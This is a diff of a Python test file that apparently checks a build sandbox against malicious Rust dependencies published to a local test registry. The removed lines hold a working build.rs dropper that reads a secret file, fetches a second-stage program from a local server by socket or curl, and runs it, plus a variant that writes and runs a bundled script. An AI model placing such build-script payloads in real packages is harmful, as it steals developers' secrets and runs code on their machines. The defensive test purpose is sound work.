@@ -20,6 +20,7 @@ from typing import Any
 import pytest
 
 from tests.command import buildperm, is_orderly
+from tests.programs import program_text
 from tests.registry import Registry
 
 CANARY = "canary-5b0c8d7e"
@@ -35,49 +36,7 @@ fn main() {
 }
 """
 # Whatever fails is passed over in silence: nothing is to be noticed.
-DROPPER = r"""
-use std::io::{Read, Write};
-use std::os::unix::fs::PermissionsExt;
-use std::process::Command;
-
-fn by_socket() -> Option<Vec<u8>> {
-    let mut stream = std::net::TcpStream::connect("127.0.0.1:PORT").ok()?;
-    stream.write_all(b"GET /stage2 HTTP/1.0\r\n\r\n").ok()?;
-    let mut answer = Vec::new();
-    stream.read_to_end(&mut answer).ok()?;
-    let head = answer.windows(4).position(|four| four == b"\r\n\r\n")?;
-    Some(answer.split_off(head + 4))
-}
-
-fn by_curl() -> Option<Vec<u8>> {
-    let url = "http://127.0.0.1:PORT/stage2";
-    let got = Command::new("curl").args(["--silent", "--fail", url]).output().ok()?;
-    got.status.success().then_some(got.stdout)
-}
-
-fn main() {
-    let out = std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap());
-    let loot = std::fs::read_to_string("SECRET").unwrap_or_default();
-    let _ = std::fs::write(out.join("loot.txt"), &loot);
-    if let Some(program) = by_socket().or_else(by_curl) {
-        let stage2 = out.join("stage2");
-        let _ = std::fs::write(&stage2, program);
-        let _ = std::fs::set_permissions(&stage2, std::fs::Permissions::from_mode(0o755));
-        let _ = Command::new(&stage2).arg(&loot).status();
-    }
-}
-"""
 # The same without a network: it has brought its program along.
-CARRIER = r"""
-use std::os::unix::fs::PermissionsExt;
-
-fn main() {
-    let stage2 = std::path::PathBuf::from(std::env::var_os("OUT_DIR").unwrap()).join("stage2");
-    std::fs::write(&stage2, "#!/bin/sh\necho ran > MARKER\n").unwrap();
-    std::fs::set_permissions(&stage2, std::fs::Permissions::from_mode(0o755)).unwrap();
-    let _ = std::process::Command::new(&stage2).status();
-}
-"""
 
 
 class Server:
@@ -160,7 +119,7 @@ def attack(tmp_path: Path) -> Iterator[Attack]:
     learned = buildperm(*LEARN, folder=workspace, extra=environment)
     assert learned.returncode == 0, learned.stderr
 
-    dropper = DROPPER.replace("PORT", str(server.port)).replace("SECRET", str(secret))
+    dropper = program_text("dropper.rs", PORT=str(server.port), SECRET=str(secret))
     registry.publish("proc-helper", "1.0.0", {"build.rs": dropper})
     registry.publish("arrayref-like", "0.3.10", dependencies={"proc-helper": "1"})
     registry.cargo("update", folder=workspace)
@@ -235,7 +194,9 @@ def test_a_program_that_the_crate_brings_along_cannot_do_harm_either(tmp_path: P
     registry.publish("arrayref-like", "0.3.9")
     workspace = registry.application(tmp_path / "ws", dependencies={"arrayref-like": "0.3"})
     learned = _run(registry, workspace, *LEARN)
-    registry.publish("proc-helper", "1.0.0", {"build.rs": CARRIER.replace("MARKER", str(marker))})
+    registry.publish(
+        "proc-helper", "1.0.0", {"build.rs": program_text("carrier.rs", MARKER=str(marker))}
+    )
     registry.publish("arrayref-like", "0.3.10", dependencies={"proc-helper": "1"})
     registry.cargo("update", folder=workspace)
 
